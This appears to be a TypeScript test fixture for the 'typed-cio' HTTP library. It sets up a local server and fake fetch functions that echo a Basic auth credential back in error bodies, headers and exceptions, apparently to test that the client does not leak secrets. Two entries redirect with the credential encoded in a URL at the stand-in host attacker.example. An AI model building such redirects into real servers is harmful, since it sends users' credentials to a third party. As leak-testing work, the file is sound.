import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { HttpRequest } from 'typed-cio';
import { createHttp } from 'typed-cio/server';
import { listenOnLoopback } from '../../listen-on-loopback.js';

type Reply = (request: IncomingMessage, response: ServerResponse, key: string) => void;

/** What the server was sent to prove who it is: what is in the header, the same in plain text, and as JSON writes that. */
function keyOf({ headers }: IncomingMessage): string {
  const given = headers.authorization ?? '';
  const plain = Buffer.from(given.replace(/^Basic /, ''), 'base64').toString();
  const [user = '', password = ''] = plain.split(':');
  const inHtml = plain.replace(/["&<]/g, (sign) => `&#${sign.charCodeAt(0)};`);
  return [given, plain, user, password, encodeURIComponent(plain), JSON.stringify(plain), inHtml].join(' ');
}

const json =
  (status: number, body: (key: string) => unknown): Reply =>
  (_, response, key) =>
    response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body(key)));

const text =
  (status: number, body: (key: string) => string): Reply =>
  (_, response, key) =>
    response.writeHead(status, { 'content-type': 'text/html' }).end(body(key));

const redirect =
  (status: number, to: (key: string) => string): Reply =>
  (_, response, key) =>
    response.writeHead(status, { location: to(key) }).end();

/** Every answer repeats the key, in each form that a server could. */
export const answers: readonly (readonly [string, Reply])[] = [
  ['401 with the key in its JSON', json(401, (key) => ({ meta: { error: `no such key: ${key}` } }))],
  ['401 with the key in its page', text(401, (key) => `<p>who is ${key}?</p>`)],
  ['403 with the key escaped twice', json(403, (key) => ({ error: JSON.stringify({ key }) }))],
  [
    '400 that names the key as a field',
    json(400, (key) => ({ errors: [{ reason: key, field: key, message: key }] })),
  ],
  ['400 with the key as a name', json(400, (key) => ({ [key]: { [key]: key } }))],
  ['413 with the key', json(413, (key) => ({ meta: { errors: [key] } }))],
  ['200 that is no JSON', text(200, (key) => `<title>${key}</title>`)],
  [
    '207 with the key as each event’s reason',
    json(207, (key) => ({ errors: [{ batch_index: 0, reason: key, field: key, message: key }] })),
  ],
  ['404 with the key', text(404, (key) => key)],
  ['500 that shows the request’s headers', json(500, (key) => ({ headers: { authorization: key } }))],
  [
    '503 with the key where the seconds should be',
    (_, response, key) => response.writeHead(503, { 'retry-after': encodeURIComponent(key) }).end(key),
  ],
  [
    'a redirect to another host',
    redirect(301, (key) => `https://attacker.example/?${encodeURIComponent(key)}`),
  ],
  [
    'a redirect to the key at a host',
    redirect(308, (key) => `https://${encodeURIComponent(key)}@attacker.example/`),
  ],
  ['a redirect to nowhere', redirect(302, (key) => encodeURIComponent(key))],
  ['a connection that is cut', (request) => void request.socket.destroy()],
  ['no answer in time', () => {}],
];

/** A host's name has letters and digits alone: this is for keys that do, too. */
export const redirectToHostOfKey = redirect(
  307,
  (key) => `https://${key.replace(/[^a-z0-9]/gi, '-')}.example/`,
);

/** A real server that answers so, and whether the key has arrived there. */
export async function serverThat(reply: Reply) {
  const seen = { key: '' };
  const server = createServer((request, response) => {
    seen.key = keyOf(request);
    request.resume().on('end', () => reply(request, response, seen.key));
  });
  return { seen, ...(await listenOnLoopback(server)) };
}

const throwing = (make: (key: string, request: Request) => unknown) =>
  createHttp({
    fetch: async (request) => {
      throw make(request.headers.get('authorization') ?? '', request);
    },
  });

/** What sends, and says in its error what it was to send. */
export const transmissions: readonly (readonly [string, (request: HttpRequest) => Promise<never>])[] = (
  [
    ['a fetch that throws the key', throwing((key) => new Error(`cannot send ${key}`))],
    [
      'a fetch that throws the key far into a long message',
      throwing((key) => new Error(`${'.'.repeat(290 - key.length / 2)}${key}`)),
    ],
    [
      'a fetch whose cause has the key',
      throwing((key) => new TypeError('fetch failed', { cause: new Error(key) })),
    ],
    [
      'a fetch whose cause has the key as its code',
      throwing((key) => new TypeError('x', { cause: { code: key } })),
    ],
    [
      'a fetch that throws the request',
      throwing((_, request) => ({ ...request, headers: [...request.headers] })),
    ],
    ['a fetch that throws the key alone', throwing((key) => key)],
    [
      'an http that throws what it was given',
      async (request: HttpRequest) => {
        throw new Error(`${request.auth?.username}:${request.auth?.password}`, { cause: request });
      },
    ],
    [
      'an http that throws what it was given as JSON',
      async (request: HttpRequest) => {
        throw new Error(JSON.stringify(request.auth));
      },
    ],
  ] as const
).map(([name, http]) => [name, http as (request: HttpRequest) => Promise<never>]);
